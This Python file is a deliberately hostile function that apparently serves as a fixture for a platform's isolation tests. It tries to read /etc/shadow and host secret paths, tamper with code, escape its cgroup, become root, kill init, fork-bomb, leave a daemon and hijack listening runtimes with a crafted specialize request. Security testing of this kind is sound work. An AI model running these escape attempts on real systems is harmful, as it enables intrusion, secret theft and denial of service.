"""A hostile function: tries every way out of its instance it can think of and reports, as
JSON, what each attempt did. Kappa's isolation system tests deploy it and require every
attempt to fail.

Query parameters name what to aim at: `ports` (comma-separated host loopback ports of the
platform's listeners), `paths` (comma-separated host paths: the token, the store, other
functions' code and secrets), `daemon` (a marker for a `setsid` daemon it leaves behind).
"""

import json
import os
import re
import socket
import subprocess

from flask import request


def _err(e):
    if isinstance(e, OSError) and e.errno:
        return "denied: " + os.strerror(e.errno)
    return "denied: " + type(e).__name__ + ": " + str(e)


def _read(path):
    try:
        with open(path, "rb") as f:
            return "READ %d bytes" % len(f.read(4096))
    except Exception as e:  # noqa: BLE001 - every failure is a result here
        return _err(e)


def _append(path):
    try:
        with open(path, "ab") as f:
            f.write(b"\n# tampered\n")
        return "WRITTEN"
    except Exception as e:  # noqa: BLE001
        return _err(e)


def _connect(host, port, payload=None):
    try:
        with socket.create_connection((host, port), timeout=1.0) as s:
            if payload:
                s.sendall(payload)
                s.settimeout(1.0)
                return "CONNECTED, answered: %r" % s.recv(200)[:80]
            return "CONNECTED"
    except Exception as e:  # noqa: BLE001
        return _err(e)


def _specialize_payload(port):
    body = json.dumps({
        "filepath": "/usr/lib/python3/dist-packages",
        "functionName": "platform.node",
    }).encode()
    return (
        b"POST /v2/specialize HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
        b"Content-Type: application/json\r\nContent-Length: %d\r\n"
        b"Connection: close\r\n\r\n" % (port, len(body))
    ) + body


def _listening_ports():
    """Every TCP port in LISTEN state this instance can see (hex in /proc/net/tcp*)."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                for line in f.readlines()[1:]:
                    fields = line.split()
                    if fields[3] == "0A":
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return sorted(ports)


def _leave_cgroup():
    results = {}
    try:
        with open("/proc/self/cgroup") as f:
            results["own"] = f.read().strip()
    except OSError as e:
        results["own"] = _err(e)
    for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                 "/sys/fs/cgroup/pids/cgroup.procs"):
        try:
            with open(path, "w") as f:
                f.write(str(os.getpid()))
            results[path] = "WRITTEN"
        except Exception as e:  # noqa: BLE001
            results[path] = _err(e)
    return results


def _fork_bomb(limit=3000):
    children = []
    outcome = "no limit hit"
    try:
        for _ in range(limit):
            children.append(subprocess.Popen(["/bin/sleep", "30"]))
    except Exception as e:  # noqa: BLE001
        outcome = _err(e)
    started = len(children)
    for child in children:
        child.kill()
    for child in children:
        child.wait()
    return {"started": started, "stopped_by": outcome}


def _daemon(marker):
    # A double fork into a new session with a clean environment: the classic way to outlive
    # whatever started it.
    if not re.fullmatch(r"[0-9]{6,12}", marker or ""):
        return "no marker"
    try:
        subprocess.Popen(
            ["setsid", "env", "-i", "/bin/sleep", marker],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        return "started"
    except Exception as e:  # noqa: BLE001
        return _err(e)


def _privileges():
    results = {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid()}
    try:
        os.setuid(0)
        results["setuid0"] = "BECAME ROOT"
    except Exception as e:  # noqa: BLE001
        results["setuid0"] = _err(e)
    try:
        os.kill(1, 9)
        results["kill_init"] = "SIGNALLED"
    except Exception as e:  # noqa: BLE001
        results["kill_init"] = _err(e)
    try:
        os.chmod("/userfunc", 0o777)
        results["chmod_userfunc"] = "CHANGED"
    except Exception as e:  # noqa: BLE001
        results["chmod_userfunc"] = _err(e)
    try:
        subprocess.run(["mount", "-t", "tmpfs", "none", "/tmp"], check=True,
                       capture_output=True, timeout=5)
        results["mount"] = "MOUNTED"
    except Exception as e:  # noqa: BLE001
        results["mount"] = "denied: " + type(e).__name__
    return results


def _own_code():
    here = os.path.dirname(os.path.abspath(__file__))
    results = {"code_dir": here}
    for name in sorted(os.listdir(here)):
        path = os.path.join(here, name)
        if os.path.isfile(path):
            results["append " + path] = _append(path)
            try:
                os.chmod(path, 0o666)
                results["chmod " + path] = "CHANGED"
            except Exception as e:  # noqa: BLE001
                results["chmod " + path] = _err(e)
            try:
                os.rename(path, path + ".moved")
                results["rename " + path] = "RENAMED"
                os.rename(path + ".moved", path)
            except Exception as e:  # noqa: BLE001
                results["rename " + path] = _err(e)
    return results


def main():
    ports = [int(p) for p in request.args.get("ports", "").split(",") if p.isdigit()]
    paths = [p for p in request.args.get("paths", "").split(",") if p]
    report = {
        "host_files": {p: _read(p) for p in ["/etc/shadow", "/root/.bash_history"] + paths},
        "visible_processes": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
        "listening_ports": _listening_ports(),
        "platform_ports": {},
        "own_code": _own_code(),
        "cgroup": _leave_cgroup(),
        "privileges": _privileges(),
        "fork_bomb": _fork_bomb(),
        "daemon": _daemon(request.args.get("daemon")),
    }
    for port in ports:
        for host in ("127.0.0.1", "10.0.2.2"):
            report["platform_ports"]["%s:%d" % (host, port)] = _connect(host, port)
    # Every port it can see listening (its own runtime only): try to specialize it with
    # someone else's code, as the original attack did with the other instances.
    report["specialize_visible"] = {
        str(p): _connect("127.0.0.1", p, _specialize_payload(p)) for p in report["listening_ports"]
    }
    return json.dumps(report, indent=1, sort_keys=True) + "\n"
